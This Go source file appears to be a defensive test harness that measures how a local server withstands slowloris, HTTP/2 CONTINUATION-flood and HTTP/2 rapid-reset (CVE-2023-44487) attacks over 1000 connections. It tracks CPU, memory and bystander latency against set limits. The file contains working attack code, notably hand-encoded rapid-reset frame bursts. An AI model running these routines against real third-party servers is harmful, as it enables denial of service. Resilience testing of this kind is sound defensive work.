package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"
)

// connections.go measures attacks by many connections (-connections): slow headers, and HTTP/2
// rapid reset (CVE-2023-44487).

// The number of connections, and the processor time and memory that they may take from the server.
const (
	attackers = 1000
	maxCores  = 1.0      // processors
	maxBytes  = 64 << 20 // bytes more than before

	sendBuffer = 16 << 10 // bytes, of each connection
)

// attack runs each attack on attackers connections for a while, and prints its cost for the server.
func (p *plan) attack(ctx context.Context, coracle *process) error {
	fmt.Printf("%-28s %12s %8s %12s %14s\n", "1000 connections with", "made", "cores", "MiB", "bystander")
	over := 0
	for _, m := range mischiefs {
		if !p.only.MatchString(m.name) {
			continue
		}
		cost, err := measure(ctx, coracle, m, max(p.duration, time.Second))
		if err != nil {
			return fmt.Errorf("%s: %w", m.name, err)
		}
		mark := ""
		if cost.cores > maxCores || cost.bytes > maxBytes {
			over, mark = over+1, " <--"
		}
		fmt.Printf("%-28s %12d %8.2f %12.1f %14v%s\n", m.name, cost.made, cost.cores, float64(cost.bytes)/(1<<20), cost.worst.Round(time.Microsecond), mark)
	}
	if over > 0 {
		return fmt.Errorf("%d attacks took more than a core or %d MiB", over, maxBytes>>20)
	}
	return nil
}

// mischief is an attack. do runs it on one connection until ctx ends, and calls made for each
// request or piece of a request.
type mischief struct {
	name string
	next []string // protocols to offer
	do   func(ctx context.Context, conn net.Conn, made func()) error
}

var mischiefs = []mischief{
	{"slow headers", nil, slowHeaders},
	{"slow HTTP/2 headers", []string{"h2"}, slowFrames},
	{"rapid resets", []string{"h2"}, rapidResets},
}

// slowHeaders sends a header that never ends, a byte every 100 ms (slowloris).
func slowHeaders(ctx context.Context, conn net.Conn, made func()) error {
	if _, err := conn.Write([]byte("GET /api/v1/secrets HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")); err != nil {
		return nil
	}
	for sleep(ctx, 100*time.Millisecond) {
		if _, err := conn.Write([]byte("a")); err != nil {
			return nil // the server has closed the connection
		}
		made()
	}
	return nil
}

// slowFrames begins a block of HTTP/2 headers, and sends CONTINUATION frames that never end it.
func slowFrames(ctx context.Context, conn net.Conn, made func()) error {
	if greet(conn) != nil || frame(conn, headersFrame, 0, 1, []byte{0x82}) != nil {
		return nil
	}
	for sleep(ctx, 100*time.Millisecond) {
		if frame(conn, continuationFrame, 0, 1, []byte{0x84}) != nil {
			return nil
		}
		made()
	}
	return nil
}

// rapidResets sends requests and cancels each at once, as fast as the server reads.
func rapidResets(ctx context.Context, conn net.Conn, made func()) error {
	if greet(conn) != nil {
		return nil
	}
	go io.Copy(io.Discard, conn) // ends with the connection
	// :method GET, :scheme https, :path /api/v1/secrets, :authority localhost
	block := append([]byte{0x82, 0x87, 0x04, 15}, "/api/v1/secrets"...)
	block = append(append(block, 0x01, 9), "localhost"...)
	cancel := []byte{0, 0, 0, 8}
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; {
		var together []byte // one write for many frames, to cost the sender little
		for range resetsTogether {
			together = appendFrame(together, headersFrame, endStream|endHeaders, id, block)
			together = appendFrame(together, resetFrame, 0, id, cancel)
			id += 2
		}
		if _, err := conn.Write(together); err != nil {
			return nil
		}
		for range resetsTogether {
			made()
		}
	}
	return nil
}

// resetsTogether is the number of requests, each with its reset, in one write.
const resetsTogether = 64

// Types and flags of HTTP/2 frames (RFC 9113).
const (
	headersFrame, resetFrame, settingsFrame, continuationFrame = 1, 3, 4, 9

	endStream, endHeaders = 1, 4
)

// greet sends the preface of HTTP/2 and empty settings.
func greet(conn net.Conn) error {
	if _, err := conn.Write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")); err != nil {
		return err
	}
	return frame(conn, settingsFrame, 0, 0, nil)
}

// frame sends a frame.
func frame(conn net.Conn, kind, flags byte, stream uint32, payload []byte) error {
	_, err := conn.Write(appendFrame(nil, kind, flags, stream, payload))
	return err
}

func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = binary.BigEndian.AppendUint32(b, uint32(len(payload))<<8|uint32(kind))
	b = binary.BigEndian.AppendUint32(append(b, flags), stream)
	return append(b, payload...)
}

func sleep(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// attackCost is the cost of an attack to the server.
type attackCost struct {
	made  int64         // calls of made
	cores float64       // processor time per elapsed time
	bytes int64         // the highest growth of the memory
	worst time.Duration // the longest wait of another client
}

// measure opens the connections, runs the attack on them, and measures the server meanwhile. If the
// server closes a connection, measure opens it again.
func measure(ctx context.Context, coracle *process, m mischief, lasts time.Duration) (attackCost, error) {
	var cost attackCost
	ctx, cancel := context.WithCancel(ctx)
	var wg sync.WaitGroup
	defer wg.Wait()
	defer cancel()
	quiet, err := coracle.resident()
	if err != nil {
		return cost, err
	}
	var mu sync.Mutex
	made := func() { mu.Lock(); cost.made++; mu.Unlock() }
	var connected sync.WaitGroup
	connected.Add(attackers)
	begin := make(chan struct{})
	gate := make(chan struct{}, 32) // bounds concurrent handshakes, which are not measured
	for range attackers {
		wg.Go(func() {
			first := sync.OnceFunc(connected.Done)
			defer first()
			for ctx.Err() == nil {
				gate <- struct{}{}
				cfg := tlsConfig()
				cfg.NextProtos = m.next
				conn, err := (&tls.Dialer{Config: cfg}).DialContext(ctx, "tcp", coracle.address)
				<-gate
				first()
				if err != nil {
					sleep(ctx, 100*time.Millisecond)
					continue
				}
				<-begin
				// Bytes in the sender's buffer take memory and measure nothing.
				if err := conn.(*tls.Conn).NetConn().(*net.TCPConn).SetWriteBuffer(sendBuffer); err != nil {
					conn.Close()
					return
				}
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				m.do(ctx, conn, made)
				stop()
				conn.Close()
				if !sleep(ctx, time.Second) { // wait, because a handshake costs the sender as much as the server
					return
				}
			}
		})
	}
	connected.Wait()
	before, err := coracle.cpu()
	if err != nil {
		return cost, err
	}
	began := time.Now()
	close(begin)
	get := request{method: "GET", target: "/readyz", header: bearer(adminToken)}
	s := newSender(coracle, http1)
	defer s.close()
	for time.Since(began) < lasts {
		sent := time.Now()
		a, err := s.send(ctx, &get)
		if err != nil { // with many connections, the server closes idle ones; try once more
			a, err = s.send(ctx, &get)
		}
		if err != nil || a.Status != 200 {
			return cost, fmt.Errorf("a bystander got %+v, %v", a, err)
		}
		cost.worst = max(cost.worst, time.Since(sent))
		now, err := coracle.resident()
		if err != nil {
			return cost, err
		}
		cost.bytes = max(cost.bytes, now-quiet)
		sleep(ctx, 20*time.Millisecond)
	}
	after, err := coracle.cpu()
	cost.cores = float64(after-before) / float64(time.Since(began))
	mu.Lock()
	defer mu.Unlock()
	return cost, err
}

// resident returns the resident memory of the process, in bytes.
func (p *process) resident() (int64, error) {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/statm", p.cmd.Process.Pid))
	if err != nil {
		return 0, err
	}
	fields := strings.Fields(string(data))
	pages, err := strconv.ParseInt(fields[1], 10, 64)
	return pages * int64(os.Getpagesize()), err
}
